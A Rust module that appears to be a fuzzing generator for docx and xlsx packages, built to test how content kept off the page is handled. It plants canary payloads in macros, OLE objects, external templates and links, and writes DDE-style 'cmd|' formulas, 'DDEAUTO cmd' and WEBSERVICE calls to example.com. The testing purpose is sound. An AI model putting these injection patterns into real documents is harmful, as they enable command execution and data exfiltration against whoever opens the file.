//! docx and xlsx: parts, relationships and elements, known and unknown, with payloads off the page.

use super::{canary, zip};
use arbitrary::Arbitrary;

/// A docx package.
#[derive(Arbitrary, Debug)]
pub struct Document {
    body: Vec<Node>,
    extra: Vec<Extra>,
}

/// An xlsx package.
#[derive(Arbitrary, Debug)]
pub struct Workbook {
    rows: Vec<Vec<Cell>>,
    sheet: Vec<Node>,
    extra: Vec<Extra>,
}

#[derive(Arbitrary, Debug)]
struct Node {
    tag: u8,
    attributes: Vec<(u8, Value)>,
    children: Vec<Node>,
    text: bool,
}

#[derive(Arbitrary, Debug)]
enum Value {
    Number(i32),
    Word(u8),
    Relationship(u8),
}

#[derive(Arbitrary, Debug)]
enum Cell {
    Number(f64),
    Text(u8),
    Formula(u8),
    Error,
    Shared(u16),
}

/// A part or a relationship that leads somewhere it must not.
#[derive(Arbitrary, Debug)]
enum Extra {
    Macros,
    Embedded,
    CustomXml,
    Template,
    ExternalPicture,
    FileLink,
    Properties,
    Unrelated,
    Settings,
}

const WORD: &[&str] = &[
    "w:p",
    "w:r",
    "w:t",
    "w:tbl",
    "w:tr",
    "w:tc",
    "w:pPr",
    "w:rPr",
    "w:hyperlink",
    "w:fldSimple",
    "w:fldChar",
    "w:drawing",
    "w:object",
    "w:pict",
    "w:sdt",
    "w:sdtContent",
    "w:altChunk",
    "w:ins",
    "w:del",
    "w:bookmarkStart",
    "w:br",
    "w:tab",
    "w:b",
    "w:sz",
    "w:color",
    "w:numPr",
    "w:sectPr",
    "w:footnoteReference",
    "w:commentReference",
    "w:ruby",
    "w:rt",
    "w:rubyBase",
    "m:oMath",
    "m:r",
    "mc:AlternateContent",
    "mc:Choice",
    "mc:Fallback",
    "v:shape",
    "o:OLEObject",
    "x:unknown",
];
const SHEET: &[&str] = &[
    "cols",
    "col",
    "mergeCells",
    "mergeCell",
    "conditionalFormatting",
    "cfRule",
    "formula",
    "dataValidations",
    "dataValidation",
    "formula1",
    "hyperlinks",
    "hyperlink",
    "pageSetup",
    "printOptions",
    "drawing",
    "legacyDrawing",
    "oleObjects",
    "oleObject",
    "controls",
    "control",
    "tableParts",
    "tablePart",
    "extLst",
    "ext",
    "sheetProtection",
    "autoFilter",
    "sheetViews",
    "sheetView",
    "pane",
    "unknown",
];
const ATTRIBUTES: &[&str] = &[
    "w:val",
    "w:id",
    "r:id",
    "r:embed",
    "r:link",
    "w:type",
    "w:w",
    "w:fldCharType",
    "w:instr",
    "w:name",
    "ref",
    "sqref",
    "min",
    "max",
    "width",
    "type",
    "val",
    "id",
    "s",
    "uri",
    "Requires",
    "w:anchor",
    "w:fill",
    "w:sz",
    "w:color",
    "ProgID",
];
const WORDS: &[&str] =
    &["begin", "end", "separate", "A1:B2", "center", "true", "0", "FF0000", "auto", "dxa", "wps", "DDEAUTO cmd", "list"];

const NAMESPACES: &str = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" \
     xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\" \
     xmlns:m=\"http://schemas.openxmlformats.org/officeDocument/2006/math\" \
     xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\" xmlns:wps=\"http://schemas.microsoft.com/office/word/2010/wordprocessingShape\" \
     xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns:x=\"urn:x\"";
const OFFICE: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const TYPES: &str = "application/vnd.openxmlformats-officedocument";

impl Document {
    /// The file.
    pub fn write(&self) -> Vec<u8> {
        let body = nodes(&self.body, WORD, 5);
        let main = format!("<w:document {NAMESPACES}><w:body><w:p><w:r><w:t>page</w:t></w:r></w:p>{body}</w:body></w:document>");
        let main = ("word/document.xml", format!("{TYPES}.wordprocessingml.document.main+xml"), main);
        package(main, &[], "word", &self.extra)
    }
}

impl Workbook {
    /// The file.
    pub fn write(&self) -> Vec<u8> {
        let namespace = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
        let book = format!(
            "<workbook xmlns=\"{namespace}\" xmlns:r=\"{OFFICE}\"><sheets><sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>"
        );
        let mut rows = String::new();
        for (number, row) in (1..).zip(self.rows.iter().take(8)) {
            let cells: String =
                row.iter().take(8).zip("ABCDEFGH".chars()).map(|(cell, column)| cell.text(column, number)).collect();
            rows.push_str(&format!("<row r=\"{number}\">{cells}</row>"));
        }
        let more = nodes(&self.sheet, SHEET, 3);
        let sheet = format!("<worksheet xmlns=\"{namespace}\" {NAMESPACES}><sheetData>{rows}</sheetData>{more}</worksheet>");
        let main = ("xl/workbook.xml", format!("{TYPES}.spreadsheetml.sheet.main+xml"), book);
        let sheet = (
            "xl/worksheets/sheet1.xml",
            format!("{TYPES}.spreadsheetml.worksheet+xml"),
            sheet,
            "worksheet",
            "worksheets/sheet1.xml",
        );
        package(main, &[sheet], "xl", &self.extra)
    }
}

/// Part, content type, content, kind of relationship, target.
type Part<'a> = (&'a str, String, String, &'a str, &'a str);

fn package(main: (&str, String, String), parts: &[Part<'_>], folder: &str, extra: &[Extra]) -> Vec<u8> {
    let mut types = format!("<Override PartName=\"/{}\" ContentType=\"{}\"/>", main.0, main.1);
    let mut links = String::new();
    let mut files = Vec::new();
    for (number, (name, kind, content, relation, target)) in (1..).zip(parts) {
        types.push_str(&format!("<Override PartName=\"/{name}\" ContentType=\"{kind}\"/>"));
        links.push_str(&relationship(number, &format!("{OFFICE}/{relation}"), target, false));
        files.push(((*name).to_owned(), content.clone().into_bytes()));
    }
    for (number, extra) in (1..).zip(extra.iter().take(6)) {
        extra.write(number, folder, &mut types, &mut links, &mut files);
    }
    let head = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>";
    let relationships = "http://schemas.openxmlformats.org/package/2006/relationships";
    let of = |links: &str| format!("{head}<Relationships xmlns=\"{relationships}\">{links}</Relationships>").into_bytes();
    let name = main.0.rsplit('/').next().unwrap_or_default();
    let mut all = vec![
        (
            "[Content_Types].xml".to_owned(),
            format!(
                "{head}<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" \
                 ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\" \
                 ContentType=\"application/xml\"/><Default Extension=\"bin\" ContentType=\"application/octet-stream\"/>{types}</Types>"
            )
            .into_bytes(),
        ),
        ("_rels/.rels".to_owned(), of(&relationship(1, &format!("{OFFICE}/officeDocument"), main.0, false))),
        (main.0.to_owned(), format!("{head}{}", main.2).into_bytes()),
        (format!("{folder}/_rels/{name}.rels"), of(&links)),
    ];
    all.extend(files);
    zip::package(&all)
}

fn relationship(number: u32, kind: &str, target: &str, external: bool) -> String {
    let mode = if external { " TargetMode=\"External\"" } else { "" };
    format!("<Relationship Id=\"rId{number}\" Type=\"{kind}\" Target=\"{target}\"{mode}/>")
}

impl Extra {
    fn write(&self, number: u32, folder: &str, types: &mut String, links: &mut String, files: &mut Vec<(String, Vec<u8>)>) {
        let number = number + 10;
        let payload = canary();
        let mut part = |name: &str, kind: &str, relation: &str, content: String| {
            let name = name.replace('#', &number.to_string());
            types.push_str(&format!("<Override PartName=\"/{folder}/{name}\" ContentType=\"{kind}\"/>"));
            links.push_str(&relationship(number, relation, &name, false));
            files.push((format!("{folder}/{name}"), content.into_bytes()));
        };
        let office = |name: &str| format!("{OFFICE}/{name}");
        match self {
            Self::Macros => {
                let relation = "http://schemas.microsoft.com/office/2006/relationships/vbaProject";
                part("vbaProject#.bin", "application/vnd.ms-office.vbaProject", relation, payload);
            }
            Self::Embedded => part("embeddings/oleObject#.bin", &format!("{TYPES}.oleObject"), &office("oleObject"), payload),
            Self::CustomXml => part("customXml#.xml", "application/xml", &office("customXml"), format!("<a>{payload}</a>")),
            Self::Settings => {
                let namespace = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
                let content = format!(
                    "<w:settings xmlns:w=\"{namespace}\"><w:docVars><w:docVar w:name=\"a\" w:val=\"{payload}\"/></w:docVars></w:settings>"
                );
                part("settings#.xml", &format!("{TYPES}.wordprocessingml.settings+xml"), &office("settings"), content);
            }
            Self::Properties => {
                files.push(("docProps/custom.xml".to_owned(), format!("<Properties>{payload}</Properties>").into_bytes()));
            }
            Self::Unrelated => files.push((format!("{folder}/other{number}.bin"), payload.into_bytes())),
            Self::Template => {
                links.push_str(&relationship(number, &office("attachedTemplate"), &format!("file://host/{payload}"), true));
            }
            Self::ExternalPicture => {
                links.push_str(&relationship(number, &office("image"), &format!("https://example.com/{payload}"), true));
            }
            Self::FileLink => {
                links.push_str(&relationship(number, &office("hyperlink"), &format!("file://host/{payload}"), true));
            }
        }
    }
}

fn nodes(nodes: &[Node], tags: &[&str], depth: u32) -> String {
    nodes.iter().take(6).map(|node| node.text(tags, depth)).collect()
}

impl Node {
    fn text(&self, tags: &[&str], depth: u32) -> String {
        let tag = tags[usize::from(self.tag) % tags.len()];
        let mut attributes = String::new();
        let mut seen = Vec::new();
        for (name, value) in self.attributes.iter().take(4) {
            let name = ATTRIBUTES[usize::from(*name) % ATTRIBUTES.len()];
            if !seen.contains(&name) {
                seen.push(name);
                // A field's code is what it does, not what it shows.
                let value = if name == "w:instr" { format!("INCLUDETEXT {}", canary()) } else { value.text() };
                attributes.push_str(&format!(" {name}=\"{value}\""));
            }
        }
        let children = if depth > 0 { nodes(&self.children, tags, depth - 1) } else { String::new() };
        let text = if self.text { "text" } else { "" };
        format!("<{tag}{attributes}>{text}{children}</{tag}>")
    }
}

impl Value {
    fn text(&self) -> String {
        match self {
            Self::Number(number) => number.to_string(),
            Self::Word(word) => WORDS[usize::from(*word) % WORDS.len()].to_owned(),
            Self::Relationship(number) => format!("rId{}", number % 20),
        }
    }
}

impl Cell {
    fn text(&self, column: char, row: u32) -> String {
        let at = format!("{column}{row}");
        match self {
            Self::Number(number) if number.is_finite() => format!("<c r=\"{at}\"><v>{number}</v></c>"),
            Self::Number(_) => format!("<c r=\"{at}\"><v>NaN</v></c>"),
            Self::Text(number) => format!("<c r=\"{at}\" t=\"inlineStr\"><is><t>text {number}</t></is></c>"),
            Self::Formula(which) => {
                let payload = canary();
                let formulas = [
                    format!("WEBSERVICE(\"https://example.com/{payload}\")"),
                    format!("cmd|'/c {payload}'!A0"),
                    format!("'file://host/[{payload}.xlsx]Sheet1'!A1"),
                    "SUM(A1:B2)".to_owned(),
                ];
                let formula = formulas[usize::from(*which) % formulas.len()].replace('&', "&amp;").replace('"', "&quot;");
                format!("<c r=\"{at}\"><f>{formula}</f><v>1</v></c>")
            }
            Self::Error => format!("<c r=\"{at}\" t=\"e\"><v>#REF!</v></c>"),
            Self::Shared(index) => format!("<c r=\"{at}\" t=\"s\"><v>{index}</v></c>"),
        }
    }
}
